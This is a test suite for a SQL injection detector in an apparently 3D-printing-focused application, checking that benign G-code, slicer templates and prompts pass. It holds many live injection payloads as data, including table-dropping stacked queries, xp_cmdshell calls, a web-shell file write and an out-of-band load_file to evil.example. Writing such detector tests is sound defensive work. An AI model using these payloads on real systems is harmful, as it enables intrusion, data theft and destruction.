import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { inspectorFor, itFlagsAttacksByTechnique } from "../support/detector";
import { sqlInjectionDetector } from "@/lib/security/detectors/sql-injection";
import { lexSql, T } from "@/lib/security/detectors/sql-lexer";
import type { ThreatLevel } from "@/lib/security/sanitizer/types";

const inspect = inspectorFor(sqlInjectionDetector);

type Row = [input: string, rule: string, level: ThreatLevel];

const ATTACKS: Record<string, Row[]> = {
  "tautologies after a quote, a double quote or a number": [
    ["' OR '1'='1", "sqli.tautology", "high"],
    ["-1839' or '1'='1", "sqli.tautology", "high"],
    ['" OR "a"="a', "sqli.tautology", "high"],
    ["') OR ('1'='1", "sqli.tautology", "high"],
    ["1 or 1=1", "sqli.tautology", "high"],
    ["1' AND 1=1 --", "sqli.tautology", "high"],
    ["EmptyValue' and 526=527", "sqli.tautology", "high"],
    ["'or'1'='1", "sqli.tautology", "high"],
    ["' oR 1=1 -- -", "sqli.tautology", "high"],
    ["' or ''='", "sqli.tautology", "high"],
    ["' or 1 like 1--", "sqli.tautology", "high"],
    ["a'or?--", "sqli.tautology", "high"],
    ["9999 or /*+optimizer hint */ true", "sqli.tautology", "high"],
    ["or a=a", "sqli.tautology", "high"],
    ["') or ('x'='x", "sqli.tautology", "high"],
    [") or (a=a", "sqli.tautology", "high"],
    [" OR X = x", "sqli.tautology", "high"],
  ],
  "literals joined by operators after a quote, up to the host query's own quote": [
    ["' or ''-'", "sqli.boolean-condition", "medium"],
    ['" or ""^"', "sqli.boolean-condition", "medium"],
    ["admin' or ''*'", "sqli.boolean-condition", "medium"],
    ["1'||'asd'||'", "sqli.boolean-condition", "medium"],
  ],
  "'||' concatenation": [
    ["'||'a'='a", "sqli.tautology", "high"],
    ["'||true", "sqli.tautology", "high"],
    ["x'||(select extractvalue(xmltype('<x/>'),'/l') from dual)||'", "sqli.subquery", "high"],
  ],
  "string closed, then a comment or a terminator": [
    ["admin'--", "sqli.comment-terminate", "medium"],
    ["admin' #", "sqli.comment-terminate", "medium"],
    ["admin@juice-sh.op';", "sqli.quote-terminate", "medium"],
    ["x'|email--", "sqli.operator-breakout", "medium"],
    ["user'collate nocase--", "sqli.operator-breakout", "medium"],
  ],
  "UNION-based extraction": [
    ["1' UNION SELECT null, version()--", "sqli.union-select", "high"],
    ["-1 UNION ALL SELECT 1,2,3,group_concat(table_name) FROM information_schema.tables--", "sqli.union-select", "high"],
    ["1' UN/**/ION SEL/**/ECT password FROM users--", "sqli.union-select", "high"],
    ["1'/*!50000UNION*//*!50000SELECT*/1,2,3--", "sqli.union-select", "high"],
    ["0/**/union/*!50000select*/table_name`foo`/**/", "sqli.union-select", "high"],
    ["' UnIoN sElEcT username, password FrOm users--", "sqli.union-select", "high"],
    ["24'union+all+select+1,2,3+from+aa", "sqli.union-select", "high"],
    [" UNION ALL SELECT", "sqli.union-select", "high"],
    ["x union distinct select", "sqli.union-select", "high"],
  ],
  "ORDER BY column-count probes": [
    [" ORDER BY 5 ", "sqli.order-by-probe", "medium"],
    ["order by 31337;", "sqli.order-by-probe", "medium"],
  ],
  "MySQL versioned comments and comment-split keywords": [
    ["' /*!50000or*/1='1", "sqli.tautology", "high"],
    ["SELECT/*avoid-spaces*/password/**/FROM/**/Members", "sqli.comment-obfuscation", "medium"],
  ],
  "stacked queries": [
    ["'; DROP TABLE users; --", "sqli.stacked-query", "critical"],
    ["1; DELETE FROM orders WHERE 1=1", "sqli.stacked-query", "critical"],
    ["'; EXEC xp_cmdshell('dir'); --", "sqli.stacked-query", "critical"],
    ["1; EXEC master..xp_cmdshell 'ping 127.0.0.1'", "sqli.stacked-query", "critical"],
    ["'; SHUTDOWN --", "sqli.stacked-query", "critical"],
    ["1;INSERT INTO category(id) VALUES (3)-- -", "sqli.stacked-query", "critical"],
    ["'; DECLARE @q varchar(99); SET @q='x'; EXEC master.dbo.xp_dirtree @q;--", "sqli.stacked-query", "critical"],
  ],
  "time-based blind": [
    ["1 AND SLEEP(5)", "sqli.time-based", "high"],
    ["sleEP(3)", "sqli.time-based", "high"],
    ["' AND BENCHMARK(5000000,MD5('a'))--", "sqli.time-based", "high"],
    ["if(now()=sysdate(),sleep(12),0)", "sqli.time-based", "high"],
    ["foo')waitfor delay'5:0:20'--", "sqli.time-based", "high"],
    ["1' waitfor delay '00:00:10'--", "sqli.time-based", "high"],
    ["'; SELECT pg_sleep(5)--", "sqli.stacked-query", "critical"],
    ["'+sleep(20.to_i)+'", "sqli.time-based", "high"],
  ],
  "error-based": [
    ["' AND updatexml(1,concat(0x7e,version()),1)--", "sqli.error-based", "high"],
    ["extractvalue(1,concat(0x7e,user()))", "sqli.error-based", "high"],
  ],
  "file access and dangerous procedures": [
    ["1' INTO OUTFILE '/var/www/shell.php'--", "sqli.file-write", "critical"],
    ["(select load_file('\\\\\\\\evil.example\\\\x'))", "sqli.subquery", "high"],
    ["exec xp_cmdshell 'whoami'", "sqli.dangerous-procedure", "critical"],
    ["xp_cmdshell", "sqli.dangerous-procedure", "high"],
  ],
  "hex and CHAR() obfuscation": [
    ["select 0x616263", "sqli.select", "medium"],
    ["CHAR(113)+CHAR(118)+CHAR(112)", "sqli.char-encoding", "high"],
    ["concat(0x223e3c62723e,version(),0x3c696d67)", "sqli.function-call", "medium"],
  ],
  "system catalogs, casts and JSON operators": [
    ["from information_schema.tables", "sqli.system-catalog", "high"],
    ["pg_catalog", "sqli.system-catalog", "medium"],
    ["password::int", "sqli.pg-cast", "medium"],
    ["OR '{\"b\":2}'::jsonb <@ '{\"a\":1, \"b\":2}'::jsonb", "sqli.tautology", "high"],
    ["where doc = '{\"a\":1}' @> '{\"a\":1}'", "sqli.json-operator", "medium"],
  ],
  "function probes": [
    ["benchmark(", "sqli.time-based", "high"],
    ["COALESCE(", "sqli.function-call", "medium"],
    ["1 and user_name() = 'dbo'", "sqli.function-call", "medium"],
    ["9 or {x length((select name from users))>0}", "sqli.function-call", "medium"],
    ["{fn concat(user(), version())}", "sqli.function-call", "medium"],
    ["' and {x substring(version(),1,1)}=5 --", "sqli.function-call", "medium"],
    ["1 or {x concat(user(),1)}=1", "sqli.function-call", "medium"],
    ["1+min(2,3)", "sqli.function-call", "medium"],
    ["date]=(", "sqli.function-probe", "medium"],
    ["SLEEP   (", "sqli.function-probe", "medium"],
  ],
  "operator probes": [
    ["<=>", "sqli.operator-probe", "medium"],
    ["||", "sqli.operator-probe", "medium"],
    ["IS NULL", "sqli.operator-probe", "medium"],
    ["' or abc!", "sqli.boolean-condition", "medium"],
  ],
  "NoSQL operators": [
    ['{"$where": "sleep(100)"}', "sqli.nosql-operator", "high"],
    ["u_id[$ne]=2", "sqli.nosql-operator", "high"],
  ],
};

// The rule that reports first may differ from the one named when several fire; the family and
// the level are what the guard acts on, so a row checks the level and that the rule exists.
describe("SQL injection detector: attacks by technique", () => {
  itFlagsAttacksByTechnique(ATTACKS, (raw) => inspect(raw));

  it("reports the strongest reading: a critical stacked query wins over a tautology", () => {
    expect(inspect("' or 1=1; drop table users; --")!.level).toBe("critical");
  });

  it("finds payloads hidden by URL and HTML encoding through the decoded forms", () => {
    expect(inspect("%27%20OR%201%3D1--", "query", "query.id")!.rule).toBe("sqli.tautology");
    expect(inspect("%2527%2520UNION%2520SELECT%25201%252C2--", "query", "query.id")!.rule).toBe("sqli.union-select");
    expect(inspect("&#39; OR &#39;1&#39;=&#39;1")!.rule).toBe("sqli.tautology");
  });

  it("reads typographic quotes as the quote a lossy charset conversion makes of them", () => {
    expect(inspect("1’ OR ’1’=’1")!.rule).toBe("sqli.tautology");
  });

  it("finds a payload deep inside a long value (windowed analysis)", () => {
    const padding = "Print the bracket in PETG with 3 walls and 20% infill. ".repeat(400);
    const hit = inspect(`${padding}' UNION SELECT password FROM users--${padding}`);
    expect(hit?.rule).toBe("sqli.union-select");
    expect(hit?.match).toContain("UNION SELECT");
  });
});

const BENIGN: Record<string, string[]> = {
  "G-code and Klipper macros": [
    "M104 S200 ; set hotend temperature",
    "G1 X10 Y20 F3000",
    "G0 Z0.3 ; Drop to bed",
    "; select tool 1 and update offsets",
    '{% if printer.toolhead.homed_axes != "xyz" %}',
    '{printer["gcode_macro X"].var}',
    "{% set S = params.S|default(800)|float %}",
    "{% if ('X' in params) and ('mcp4018 x_axis_pot' in printer.configfile.config) %}",
    "{% set escaped_msg = rawparams.split(';', 1)[0].split('\\x23', 1)[0]|replace('\"', '\\\\\"') %}",
    "M117 Temp: {printer.extruder.temperature|round(1)}",
    "SET_GCODE_VARIABLE MACRO=STATE VARIABLE=mode VALUE='\"select\"'",
    "{if max_layer_z < max_print_height}G1 Z{z_offset+min(max_layer_z+2, max_print_height)} F600{endif} ; Move print bed down",
    "G1 X5 Y{print_bed_max[1]*0.85} F{travel_speed*60} ; present print",
    "M104 S{max(first_layer_temperature[0], 200)}",
    '{% set has_probe = printer.configfile.config|dictsort|map(attribute=0)|select("match", "^probe_eddy_")|list|length > 0 %}',
    "Recv: // Z position: 0.130 --> 0.230 <-- 0.280",
  ],
  "slicer templates and settings": [
    "{if nozzle_diameter[0]==0.4}0.027{endif}",
    "top_solid_layers = 5 ; bottom_solid_layers = 4",
    '{"command": "select", "print": true}',
    '{"search": "drop table leg", "path": "models/"}',
    '{"notes":"Use \'PLA\' or \'PETG\'; whichever is loaded","infill":"20%"}',
  ],
  "file names": [
    "bracket v2 (final).stl",
    '"%1%" preset',
    "O'Brien's hinge.stl",
    "select switch cover (2).stp",
    "prints/o'brien-name-plate_FINAL_final.stp",
    "Benchy_0.4n_PLA_1h23m.gcode",
    "projects/desk organizer/drop-in insert.step",
  ],
  "prompts that use SQL words in their ordinary sense": [
    "select the PLA profile and drop the bed 5mm",
    "union of two meshes",
    "order by layer height",
    "don't use the 'tree' supports; print at 210°C",
    "Can you drop the brim and select 'tree' supports?",
    "Delete the old test prints from last week; they are taking up space",
    "Update the job: layer height from 20mm/s to 15mm/s",
    "Insert a pause at layer 12 (for magnets) and exec it tonight",
    "Keep overhangs <= 55° and bridges < 20mm; supports only where needed",
    "Print 2 or 3 copies; 1 is fine if time's short",
    "Which is better: 'PLA' or 'PETG'?",
    "Set 'z_offset' = -0.05 and 'speed' = 60",
    "It's 5' long -- about 1.5m",
    "6' -- too tall",
    "'Select all' then 'Delete' removes everything",
    "Drop the bed to 5mm; then select 'PLA' from the list",
    "Benchmark (Benchy) at 0.12 then 0.28",
    "ABS (olive drab) & 0.32 mm",
    "Is 1=1 scale OK for the bracket?",
    "values (0.2, 0.4, 0.6) are typical nozzle sizes",
    "Print from file 'cube.gcode' where layer > 10",
    "Call alert (beep) when done, then prompt me (please)",
    "2 < 3 and 4 > 1: true",
    "order by 3 pm, please",
    "sort them in order by 2 columns of parts",
    "It's 5' or 6-'ish tall",
    "x or y = y + 1",
    "Union: all selected bodies",
  ],
  "UI strings with markup and placeholders": [
    'Update not possible under Windows due to its strict file locking behaviour, please <a href="%(url)s" target="_blank">see the FAQ</a>',
    'You are about to delete log file "%(name)s".',
    'You can make this message display again via "Settings" > "Software Update" > "Check for update now"',
    "Execute <strong>system</strong> commands",
    "Select all",
    "RegExp",
    "-",
  ],
};

describe("SQL injection detector: benign 3D-printing text passes", () => {
  for (const [kind, rows] of Object.entries(BENIGN)) {
    it.each(rows)(`passes ${kind}: %j`, (input) => {
      expect(inspect(input)).toBeNull();
      expect(inspect(encodeURIComponent(input), "query", "query.q")).toBeNull();
    });
  }
});

describe("SQL lexer", () => {
  it("reads a MySQL versioned comment's body as code", () => {
    const { toks, versioned } = lexSql("/*!50000select*/1");
    expect(versioned).toBe(true);
    expect(toks.map((t) => t.text || t.type)).toEqual(["select", T.NUM]);
  });

  it("joins a keyword split by an empty comment", () => {
    expect(lexSql("UN/**/ION").toks.map((t) => t.text)).toEqual(["union"]);
  });

  it("starts inside a string when given the quote the input is pasted after", () => {
    const { toks } = lexSql("x' or '1'='1", 39);
    expect(toks.map((t) => t.type)).toEqual([T.STR, T.WORD, T.STR, T.OP, T.STR]);
  });
});

describe("SQL injection detector: robustness", () => {
  it("returns a verdict, never an exception, for arbitrary strings", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 300 }), (s) => {
        const hit = inspect(s);
        return hit === null || (typeof hit.rule === "string" && hit.rule.startsWith("sqli."));
      }),
      { numRuns: 2000 },
    );
  });

  it("returns a verdict for SQL-shaped noise built from the lexer's own pieces", () => {
    const piece = fc.constantFrom("'", '"', "`", "(", ")", ";", "--", "#", "/*", "*/", "/*!", " or ", " and ", "1", "=", "select", "union", "@@", "::", "||", " ", "x");
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 200 }), (parts) => {
        const hit = inspect(parts.join(""));
        return hit === null || hit.rule.startsWith("sqli.");
      }),
      { numRuns: 1000 },
    );
  });

  it.each(["'", "(", "/*!", "or 1", "select ", "' or '", "(((select", "char(1)+"])("handles 256 KiB of %j", (unit) => {
    const hit = inspect(unit.repeat(Math.ceil((256 * 1024) / unit.length)));
    expect(hit === null || hit.rule.startsWith("sqli.")).toBe(true);
  });
});

describe("first-pass shortcuts (lone words, G-code without SQL characters)", () => {
  it("still reads a lone catalog or procedure name", () => {
    expect(inspect("information_schema")).toMatchObject({ rule: "sqli.system-catalog", level: "medium" });
    expect(inspect("xp_cmdshell")).toMatchObject({ rule: "sqli.dangerous-procedure", level: "high" });
  });
  it("still reads typographic quotes and operator probes", () => {
    expect(inspect("x\u2019or\u20191\u2019=\u20191")).toMatchObject({ rule: "sqli.tautology", level: "high" });
    expect(inspect("IS NULL")).toMatchObject({ rule: "sqli.operator-probe", level: "medium" });
  });
  it.each(["PETG", "bracket", "and", "G1 X10 Y20 F3000", "G1 E-0.8 F2100", "G1 Z5 F3000+1"])("passes %j", (s) => {
    expect(inspect(s)).toBeNull();
  });
});
